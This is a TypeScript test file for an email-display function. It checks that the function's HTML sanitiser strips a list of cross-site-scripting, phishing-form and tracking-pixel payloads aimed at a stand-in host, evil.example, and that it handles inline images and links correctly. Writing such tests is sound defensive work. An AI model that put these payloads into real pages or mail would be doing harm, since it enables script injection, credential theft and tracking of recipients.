import { describe, expect, it } from "vitest";
import { showMail } from "./show-mail.ts";

const pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
const mail = (html: string): Buffer =>
  Buffer.from(
    [
      "From: =?utf-8?B?0JDQvdC90LA=?= <anna@romashka.example>",
      "To: support@docket.example, Other <other@docket.example>",
      "Subject: =?utf-8?B?0J/RgNC40L3RgtC10YA=?=",
      "Date: Mon, 22 Apr 2024 09:00:00 +0300",
      "Message-ID: <1@romashka.example>",
      "MIME-Version: 1.0",
      'Content-Type: multipart/related; boundary="b"',
      "",
      "--b",
      "Content-Type: text/html; charset=utf-8",
      "",
      html,
      "--b",
      "Content-Type: image/png",
      "Content-ID: <logo@x>",
      "Content-Transfer-Encoding: base64",
      "",
      pixel,
      "--b",
      "Content-Type: image/svg+xml",
      "Content-ID: <drawing@x>",
      "",
      "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
      "--b--",
    ].join("\r\n"),
  );
const html = async (source: string, remoteImages = false): Promise<string> =>
  (await showMail(mail(source), { remoteImages })).html ?? "";

describe("a mail that is shown", () => {
  it("has its headers, its text and the files that it brought", async () => {
    const shown = await showMail(mail("<p>Hello</p>"), { remoteImages: false });
    expect(shown).toMatchObject({
      from: { name: "Анна", address: "anna@romashka.example" },
      to: [{ address: "support@docket.example" }, { name: "Other", address: "other@docket.example" }],
      subject: "Принтер",
      messageId: "<1@romashka.example>",
      html: "<p>Hello</p>",
      remoteImages: 0,
    });
    expect(shown.date?.toISOString()).toBe("2024-04-22T06:00:00.000Z");
    expect(shown.headers).toContainEqual({ name: "message-id", value: "<1@romashka.example>" });
  });

  it.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src='https://evil.example'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java&#10;script:alert(1)'>x</a>",
    "<form action='https://evil.example'><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style='background-image:url(https://evil.example/x);position:fixed'>x</p>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<base href='https://evil.example'>",
    "<video src='https://evil.example/x'></video>",
    "<object data='https://evil.example/x'></object>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<img src='cid:drawing@x'>",
    "<img src='http://evil.example/pixel.gif?who=anna'>",
    "<img srcset='https://evil.example/pixel.gif 2x'>",
    "<table background='https://evil.example/x'><tr><td>x</td></tr></table>",
  ])("carries nothing that acts or reaches out: %s", async (source) => {
    expect(await html(source)).not.toMatch(
      /script|onerror|onload|evil|iframe|<form|<input|<meta|<link|<style|url\(|svg|<base|<video|<object|position/i,
    );
  });

  it("shows the pictures that it brought, and those of others only when told to, by https", async () => {
    const source =
      "<img src='cid:logo@x' alt='Logo'><img src='http://shop.example/a.png'><img src='//shop.example/b.png'>";
    const closed = await showMail(mail(source), { remoteImages: false });
    expect(closed).toMatchObject({ remoteImages: 2, inlineImages: 1 });
    expect(closed.html).toContain(`src="data:image/png;base64,${pixel}"`);
    expect(closed.html).not.toContain("shop.example");
    const open = await html(source, true);
    expect(open).toContain('src="https://shop.example/a.png"');
    expect(open).not.toContain("http://");
  });

  it("opens links elsewhere, without telling where from", async () => {
    expect(await html("<a href='https://docs.example/x' onclick='x()'>docs</a>")).toBe(
      '<a href="https://docs.example/x" rel="noopener noreferrer nofollow" target="_blank">docs</a>',
    );
  });

  it("is shown as it stands when it is no mail at all", async () => {
    const shown = await showMail(Buffer.from([0xff, 0x00, 0x3c]), { remoteImages: true });
    expect(shown.html).toBeNull();
  });
});
